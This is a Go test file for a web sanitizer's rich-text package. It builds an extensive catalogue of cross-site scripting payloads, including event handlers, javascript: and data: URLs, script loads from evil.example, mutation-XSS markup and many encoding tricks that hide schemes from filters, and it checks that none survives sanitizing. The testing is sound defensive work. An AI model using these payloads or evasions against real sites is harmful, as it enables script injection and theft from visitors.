package richtext_test

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"thidua/internal/errs"
	"thidua/internal/richtext"
)

// The vectors are products of what attacks are made of: elements, events, attributes that hold addresses, schemes, and the
// ways to hide a scheme. Behind them come the shapes that no product makes: broken markup, foreign content, and markup
// that changes its meaning when it is written and parsed again.

func hostileTags() []string {
	return strings.Fields("a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button " +
		"canvas caption center cite code col colgroup command content custom-element data datalist dd del details dfn dialog dir div dl dt element em embed " +
		"fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h6 head header hgroup hr html i iframe image img input ins isindex kbd keygen " +
		"label legend li link listing main map mark marquee menu menuitem meta meter nav nobr noembed noframes noscript object ol optgroup option output p " +
		"param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select selectedcontent shadow slot small source spacer span strike " +
		"strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp xss " +
		"animate animatemotion animatetransform circle defs desc discard ellipse feimage filter foreignobject g line lineargradient marker mask metadata " +
		"path pattern polygon rect set stop switch symbol text textpath tspan use view math maction maligngroup annotation-xml mglyph mi mn mo ms mspace mtext")
}

func events() []string {
	return strings.Fields("onabort onactivate onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart " +
		"onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforeprint onbeforescriptexecute onbeforetoggle onbeforeunload onbegin onblur onbounce " +
		"oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag " +
		"ondragend ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange onend onended onerror onfinish onfocus onfocusin onfocusout " +
		"onformdata onfullscreenchange ongesturestart ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata " +
		"onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel " +
		"onmozfullscreenchange onpagehide onpagereveal onpageshow onpageswap onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove " +
		"onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onreadystatechange onrepeat onreset onresize onscroll onscrollend " +
		"onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstart onstorage onsubmit onsuspend " +
		"ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart " +
		"onunhandledrejection onunload onvalidationstatuschange onvolumechange onwaiting onwebkitanimationend onwebkittransitionend onwheel onxyz")
}

// addressed are the places where an address is followed, "@" standing for it.
func addressed() []string {
	return []string{
		`<a href="@">x</a>`, `<a href='@'>x</a>`, `<a href=@>x</a>`, `<a xlink:href="@">x</a>`, `<a href="/ok" href="@">x</a>`, `<a ping="@" href="/ok">x</a>`,
		`<area href="@">`, `<map><area href="@" shape=default></map>`, `<form action="@"><input type=submit></form>`, `<button formaction="@">x</button>`,
		`<input type=image src="@" formaction="@">`, `<iframe src="@"></iframe>`, `<iframe srcdoc="@"></iframe>`, `<frameset><frame src="@"></frameset>`,
		`<object data="@"></object>`, `<object><param name=url value="@"></object>`, `<embed src="@">`, `<applet code="@"></applet>`, `<img src="@">`,
		`<img srcset="@ 1x">`, `<picture><source srcset="@"><img src=/media/med_1></picture>`, `<img src=/media/med_1 longdesc="@" usemap="@">`, `<img dynsrc="@" lowsrc="@">`,
		`<image src="@">`, `<video src="@" poster="@"></video>`, `<audio src="@"></audio>`, `<video><source src="@"><track src="@"></video>`, `<bgsound src="@">`,
		`<link rel=stylesheet href="@">`, `<link rel=import href="@">`, `<base href="@"><a href=x>y</a>`, `<meta http-equiv=refresh content="0;url=@">`,
		`<script src="@"></script>`, `<body background="@">x</body>`, `<table background="@"><tr><td background="@">x<td>y</table>`, `<blockquote cite="@">x</blockquote>`,
		`<q cite="@">x</q>`, `<del cite="@">x</del>`, `<div style="background:url('@')">x</div>`, `<style>@import '@';</style>`, `<svg><a xlink:href="@"><text>x</text></a></svg>`,
		`<svg><use href="@"/></svg>`, `<svg><image href="@"/></svg>`, `<svg><script href="@"/></svg>`, `<svg><animate attributeName=href values="@"/></svg>`,
		`<svg><set attributeName=href to="@"/></svg>`, `<svg><foreignObject><iframe src="@"/></foreignObject></svg>`, `<svg><feImage href="@"/></svg>`,
		`<math href="@">x</math>`, `<math><mi xlink:href="@">x</mi></math>`, `<math><maction actiontype="statusline#@" xlink:href="@">x</maction></math>`,
		`<portal src="@"></portal>`, `<isindex action="@">`, `<html manifest="@">x`, `<xml src="@"></xml>`, `<layer src="@"></layer>`, `<ilayer src="@"></ilayer>`,
		`<p class=file data-media-id="@"><a href="@">x</a></p>`, `<a data-article-id="@" href="@">x</a>`, `<img data-media-id="@" src="@">`,
		`<ul class=awards><li data-id="@"><a href="@">x</a></li></ul>`, `<p class=citation data-id="@"><span class=passage>@</span></p>`,
	}
}

func hostileSchemes() []string {
	return []string{
		"javascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,x", "data:,alert(1)",
		"blob:https://a.vn/1", "file:///etc/passwd", "filesystem:https://a.vn/temporary/x", "about:blank", "view-source:https://a.vn", "jar:https://a.vn!/x",
		"feed:javascript:alert(1)", "mhtml:https://a.vn", "res://ieframe.dll", "ms-word:ofe|u|https://a.vn", "intent://a#Intent;end", "chrome://settings", "ws://a.vn",
		"//evil.example/x.js", `\\evil.example\x`, "javascript://a.vn/%0aalert(1)", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
	}
}

// hidings are the ways to hide an address from a filter. Each is what stands in the source of a page.
func hidings() map[string]func(string) string {
	each := func(to func(c byte, i int) string) func(string) string {
		return func(address string) string {
			var w strings.Builder
			for i := range len(address) {
				w.WriteString(to(address[i], i))
			}
			return w.String()
		}
	}
	first := func(format string) func(string) string {
		return func(address string) string { return fmt.Sprintf(format, address[0]) + address[1:] }
	}
	before := func(begin string) func(string) string { return func(address string) string { return begin + address } }
	within := func(piece string) func(string) string {
		return func(address string) string { return address[:4] + piece + address[4:] }
	}
	colon := func(to string) func(string) string {
		return func(address string) string { return strings.Replace(address, ":", to, 1) }
	}
	return map[string]func(string) string{
		"as it is": func(address string) string { return address }, "upper case": strings.ToUpper,
		"mixed case": each(func(c byte, i int) string {
			if i%2 == 0 {
				return strings.ToUpper(string(rune(c)))
			}
			return string(rune(c))
		}),
		"decimal entities": each(func(c byte, _ int) string { return fmt.Sprintf("&#%d;", c) }), "hexadecimal entities": each(func(c byte, _ int) string { return fmt.Sprintf("&#x%x;", c) }),
		"padded entities": each(func(c byte, _ int) string { return fmt.Sprintf("&#%07d;", c) }), "entities without an end": each(func(c byte, _ int) string { return fmt.Sprintf("&#%07d", c) }),
		"upper case of hexadecimal": each(func(c byte, _ int) string { return fmt.Sprintf("&#X%X;", c) }), "percent signs": each(func(c byte, _ int) string { return fmt.Sprintf("%%%02x", c) }),
		"entities twice": each(func(c byte, _ int) string { return fmt.Sprintf("&amp;#%d;", c) }), "escapes of scripts": each(func(c byte, _ int) string { return fmt.Sprintf(`\u%04x`, c) }),
		"escapes of style sheets": each(func(c byte, _ int) string { return fmt.Sprintf(`\%06x`, c) }), "full-width letters": each(func(c byte, _ int) string { return string(rune(c) + 0xFEE0) }),
		"one entity": first("&#%d;"), "one entity without an end": first("&#%06d"),
		"space": before(" "), "tab": before("\t"), "line break": before("\n"), "tab as entity": before("&Tab;"), "line break as entity": before("&NewLine;"), "no-break space": before("&nbsp;"),
		"control": before("&#1;"), "control as it is": before("\x01"), "NUL": before("\x00"), "escape": before("&#27;"), "zero-width space": before("\u200b"), "byte order mark": before("\ufeff"),
		"ideographic space": before("\u3000"), "line separator": before("\u2028"), "soft hyphen": before("&shy;"), "right to left": before("\u202e"), "another scheme": before("https:"), "a quote": before(`"`),
		"another address": before("x:y "), "end of the attribute": before(`" onmouseover="alert(1)" x="`), "end of the element": before(`"><script>alert(1)</script><a href="`),
		"tab within": within("\t"), "line break within": within("\n"), "return within": within("\r"), "NUL within": within("\x00"), "form feed within": within("\f"), "tab entity within": within("&Tab;"),
		"line break entity within": within("&#10;"), "return entity within": within("&#xD;"), "zero-width joiner within": within("\u200d"), "soft hyphen within": within("\u00ad"), "comment within": within("/**/"),
		"space within": within(" "), "no UTF-8 within": within("\xc0\xbc"), "named colon": colon("&colon;"), "decimal colon": colon("&#58;"), "hexadecimal colon": colon("&#x3A"), "full-width colon": colon("："),
	}
}

// brokenMarkup are the shapes that no product makes.
func brokenMarkup() []string {
	const x = "alert(1)"
	shapes := []string{
		"<script>X</script>", "<SCRIPT>X</SCRIPT>", "<scr<script>ipt>X</scr</script>ipt>", "<script/src=//evil.example>", "<script\n>X</script\n>", "<script\x00>X</script>", "<<script>X//<</script>",
		"<script>X", "</script><script>X</script>", "<script x>X</script x>", "<script type=text/vbscript>X</script>", "<script><!--\nX\n--></script>", "<script <b>X</script>", "<%00script>X</script>",
		"<svg/onload=X>", "<svg\fonload=X>", "<svg\x0bonload=X>", "<svg onload\n=\nX>", "<svg onload=X//", "<svg><script>X</script></svg>", "<svg><script>&#97;lert(1)</script></svg>", "<svg><style><img src=x onerror=X></style></svg>",
		"<svg><![CDATA[><img src=x onerror=X>]]></svg>", "<svg><desc><img src=x onerror=X></desc></svg>", "<svg><title><img src=x onerror=X></title></svg>", "<svg><foreignObject><p onclick=X>a</p></foreignObject></svg>",
		"<svg></p><style><a id=\"</style><img src=1 onerror=X>\">", "<svg><p><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=X&gt;\">",
		"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=X&gt;\">", "<math><mtext><table><mglyph><style><math><table id=\"</table><img src=1 onerror=X>\">",
		"<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src onerror=X>\">", "<math><mi><style></mi><img src onerror=X></style>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>",
		"<noscript><p title=\"</noscript><img src=x onerror=X>\">", "<noscript><style></noscript><img src=x onerror=X></style>", "<template><script>X</script></template>", "<template shadowrootmode=open><img src=x onerror=X></template>",
		"<textarea><img title=\"</textarea><img src=x onerror=X>\">", "<title><img title=\"</title><img src=x onerror=X>\">", "<style><img title=\"</style><img src=x onerror=X>\">", "<xmp><p title=\"</xmp><svg/onload=X>\">",
		"<noembed><p title=\"</noembed><svg/onload=X>\">", "<noframes><p title=\"</noframes><svg/onload=X>\">", "<iframe><p title=\"</iframe><svg/onload=X>\">", "<plaintext><img src=x onerror=X>", "<listing>&lt;img src=x onerror=X&gt;</listing>",
		"<!--><img src=x onerror=X>-->", "<!---><img src=x onerror=X>-->", "<!-- --!><img src=x onerror=X>-->", "<!-- x><img src=x onerror=X>", "<![endif]--><img src=x onerror=X>", "<!--[if gte IE 4]><script>X</script><![endif]-->",
		"<![CDATA[<img src=x onerror=X>]]>", "<!DOCTYPE x[<!ENTITY y \"<img src=x onerror=X>\">]>&y;", "<?xml version=\"1.0\"?><script>X</script>", "<?php echo '<script>X</script>' ?>", "<? foo=\"><script>X</script>\">", "<! foo=\"><script>X</script>\">",
		"</ foo=\"><script>X</script>\">", "<% foo><x foo=\"%><script>X</script>\">", "<img src=x:x onerror=X>", "<img src=\"x` `<script>X</script>\"` `>", "<img \"\"\"><script>X</script>\">", "<img src='x'onerror=X>", "<img/src/onerror=X>",
		"<img src=x onerror\x0c=X>", "<img src=x\x00 onerror=X>", "<img alt=\"<x\" title=\"/><img src=x onerror=X>\">", "<a href='x' title='</a><img src=x onerror=X>'>a</a>", "<a \"=\"><img src=x onerror=X>\">", "<a b='c\"d'onclick=X>e</a>",
		"<div id=\"x`onmouseover=X\">a</div>", "<p style=\"width:expression(X)\">a</p>", "<p style=\"-moz-binding:url(//evil.example/x)\">a</p>", "<p style=\"behavior:url(x.htc)\">a</p>", "<p style='x:\\65xpression(X)'>a</p>",
		"<style>*{x:expression(X)}</style>", "<style>@import'//evil.example/x.css';</style>", "<style>body{background:url(javascript:X)}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta charset=utf-7>+ADw-script+AD4-X+ADw-/script+AD4-",
		"<base target=\"X\" href=//evil.example/>", "<form id=x></form><button form=x formaction=javascript:X>a</button>", "<form name=cookie><input name=attributes></form>", "<a id=location href=/x>a</a>", "<img name=getElementById src=/media/med_1>",
		"<h2 id=cookie onclick=X>a</h2>", "<a id=defaultView><a id=defaultView name=x href=/y>", "<object id=x><object id=y>", "<input autofocus onfocus=X>", "<details open ontoggle=X>a</details>", "<video><source onerror=X></video>",
		"<audio src onloadstart=X>", "<marquee onstart=X>a</marquee>", "<body onload=X>", "<frameset onload=X>", "<isindex type=image src=1 onerror=X>", "<keygen autofocus onfocus=X>", "<x contenteditable onblur=X>a</x>", "<x id=x tabindex=1 onfocus=X>a</x>",
		"<p onmouseover='X' onmouseover=X style=position:fixed;top:0;left:0;width:100%;height:100%>a</p>", "<a href=/x target=_blank rel=opener>a</a>", "<button popovertarget=x>a</button><x popover id=x onbeforetoggle=X>b</x>",
		"<table><td><a href=/x></table><img src=x onerror=X>", "<table><script>X</script><tr><td>a<td>b</table>", "<select><style></select><img src=x onerror=X></style>", "<select><template><img src=x onerror=X></template></select>",
		"<p><svg><style><!--</style>--><img src=x onerror=X></p>", "<b><p title='</b><script>X</script>'>", "<ul><li title=\"</li></ul><script>X</script>\">a</ul>", "<pre><![CDATA[</pre><script>X</script>]]></pre>", "<q title=\"</q><script>X</script>\">a</q>",
		"\ufeff<script>X</script>", "\u2028<script>X</script>", "<\u00a0script>X</script>", "<script\u3000>X</script>", "＜script＞X＜/script＞", "\xbcscript\xbeX\xbc/script\xbe", "%3Cscript%3EX%3C/script%3E", "&lt;script&gt;X&lt;/script&gt;",
		"&amp;lt;script&amp;gt;X&amp;lt;/script&amp;gt;", "\\x3cscript\\x3eX\\x3c/script\\x3e", "\\u003cscript\\u003eX\\u003c/script\\u003e", "{{constructor.constructor('X')()}}", "${X}", "<%= X %>", "#{X}", "[[X]]", "javascript:X", "'-X-'", "\";X;//",
		"'><script>X</script>", "\"><script>X</script>", "--><script>X</script>", "]]><script>X</script>", "</title><script>X</script>", "</style><script>X</script>", "</textarea><script>X</script>", "</iframe><script>X</script>", "</noscript><script>X</script>",
		// Markdown.
		"[a](javascript:X)", "[a](<javascript:X>)", "[a]( javascript:X)", "[a](JaVaScRiPt:X)", "[a](javascript&colon;X)", "[a](&#x6A;avascript:X)", "[a](java%0ascript:X)", "[a](data:text/html,<script>X</script>)", "![a](javascript:X)", "![a](data:image/svg+xml,<svg onload=X>)",
		"<javascript:X>", "<data:text/html,X>", "[a][b]\n\n[b]: javascript:X", "[a][b]\n\n[b]: <javascript:X> 'c'", "[a](/b \"onclick=X\")", "[a](/b '><script>X</script>')", "![a\" onerror=\"X](/media/med_1)", "[![a](x)](javascript:X)", "[a](//evil.example)",
		"`<script>X</script>`", "```\n<script>X</script>\n```", "    <script>X</script>", "> <script>X</script>", "- <script>X</script>", "# <script>X</script>", "| <script>X</script> | a |\n| - | - |\n| <img src=x onerror=X> | b |", "<div>\n\n[a](javascript:X)\n\n</div>",
		"a\\<script>X</script>", "\\[a](javascript:X)", "[a\\](javascript:X)", "[a](javascript:X\\)", "<a href=\"javascript:X\">[b](javascript:X)</a>", "*<script>X</script>*", "[<script>X</script>](/a)", "[a](\\javascript:X)", "[a](javascript\\:X)", "![](media:med_1\"onerror=X)",
		"[a](article:art_1\"onclick=X)", "- [a](award:awa_1\"onclick=X)", "[a](legal:leg_1\"><script>X</script>)", "<https://youtu.be/dQw4w9WgXc\"onload=X>",
	}
	for i := range shapes {
		shapes[i] = strings.ReplaceAll(shapes[i], "X", x)
	}
	return shapes
}

// vectors returns all.
func vectors() map[string][]string {
	byEvent := []string{}
	for _, tag := range hostileTags() {
		var attributes strings.Builder
		for i, event := range events() {
			fmt.Fprintf(&attributes, " %s=alert(%d)", event, i)
			if i%20 == 19 || i == len(events())-1 { // an element may have so many that it is refused
				byEvent = append(byEvent, "<"+tag+attributes.String()+" autofocus tabindex=1 style=display:block src=x href=javascript:a>x</"+tag+">")
				attributes.Reset()
			}
		}
	}
	// Every place with every scheme and with every hiding, and every scheme in every hiding where a link is.
	byAddress := []string{}
	at := func(places []string, address string) {
		for _, place := range places {
			byAddress = append(byAddress, strings.ReplaceAll(place, "@", address))
		}
	}
	for _, scheme := range hostileSchemes() {
		at(addressed(), scheme)
		for _, hide := range hidings() {
			at([]string{`<a href="@">x</a>`, "[x](<@>)", "[x](@)", "![x](@)", "<@>", "[x][y]\n\n[y]: @"}, hide(scheme))
		}
	}
	for _, hide := range hidings() {
		at(addressed(), hide("javascript:alert(1)"))
	}
	return map[string][]string{"events": byEvent, "addresses": byAddress, "broken markup": brokenMarkup()}
}

// harmlessEverywhere fails unless a body is harmless in all that is written of it, even after a browser has read it, written
// it as it understands it, and read that.
func harmlessEverywhere(t testing.TB, body richtext.Body, scene richtext.Scene) {
	t.Helper()
	for _, p := range []richtext.Profile{richtext.ForSite, richtext.ForEmbed, richtext.ForFeed} {
		page := body.HTML(p, scene)
		harmlessIn(t, p, attributesOf(p), page)
		root, err := html.Parse(strings.NewReader(page))
		if err != nil {
			t.Fatal(err)
		}
		var again strings.Builder
		if err := html.Render(&again, root); err != nil {
			t.Fatal(err)
		}
		harmlessIn(t, p, attributesOf(p), again.String())
	}
	harmlessRendered(t, body.Markdown(scene))
}

func TestNoVectorSurvives(t *testing.T) {
	t.Parallel()
	scene := everything()
	scene.SiteURL = "https://thidua.example.vn"
	for name, list := range vectors() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if len(list) < 150 {
				t.Fatalf("there are %d vectors only", len(list))
			}
			for _, vector := range list {
				for form, read := range map[string]func(string, richtext.Known) (richtext.Body, []richtext.Warning, error){"HTML": richtext.FromHTML, "Markdown": richtext.FromMarkdown} {
					body, _, err := read(vector, everybody())
					if errs.CodeOf(err) == errs.Limit {
						continue
					}
					if err != nil {
						t.Fatalf("%s %q: %v", form, vector, err)
					}
					if err := body.Check(); err != nil {
						t.Errorf("%s %q is read as what breaks a rule: %v", form, vector, err)
					}
					harmlessEverywhere(t, body, scene)
				}
			}
		})
	}
}

// TestNoVectorSurvivesUnchecked puts vectors where no reader and no check would let them: in every text, ID and address of
// a body, and in what the scene says of media and records.
func TestNoVectorSurvivesUnchecked(t *testing.T) {
	t.Parallel()
	list := brokenMarkup()
	for _, scheme := range hostileSchemes() {
		for _, hide := range hidings() {
			list = append(list, html.UnescapeString(hide(scheme)))
		}
	}
	for _, x := range list {
		content := []richtext.Inline{{Text: x, Href: x, Marks: []richtext.Mark{richtext.Mark(x), richtext.Code}}}
		body := richtext.Body{
			&richtext.Paragraph{Content: content}, &richtext.Heading{Level: 2, Content: content}, &richtext.Quote{Content: content, Source: x},
			&richtext.List{Items: []richtext.ListItem{{Content: content, Nested: &richtext.List{Ordered: true, Items: []richtext.ListItem{{Content: content}}}}}},
			&richtext.Table{Header: true, Rows: []richtext.TableRow{{Cells: []richtext.TableCell{{Content: content}}}, {Cells: []richtext.TableCell{{Content: content}}}}},
			&richtext.Image{MediaID: x, Caption: x}, &richtext.Gallery{Items: []richtext.GalleryItem{{MediaID: x, Caption: x}}}, &richtext.File{MediaID: x, Label: x},
			&richtext.Embed{Provider: richtext.YouTube, ID: x, Title: x}, &richtext.Embed{Provider: richtext.Provider(x), ID: x, Title: x},
			&richtext.AwardList{AwardIDs: []string{x}}, &richtext.TaskList{TaskIDs: []string{x}}, &richtext.LegalCitation{LegalReferenceID: x, Passage: x},
		}
		said := everything()
		said.Pictures = func(string) (richtext.Picture, bool) { return richtext.Picture{URL: x, Alt: x, Credit: x}, true }
		said.Records = func(string) (richtext.Record, bool) { return richtext.Record{Label: x, URL: x}, true }
		for _, scene := range []richtext.Scene{{}, everything(), said} {
			harmlessEverywhere(t, body, scene)
		}
	}
}
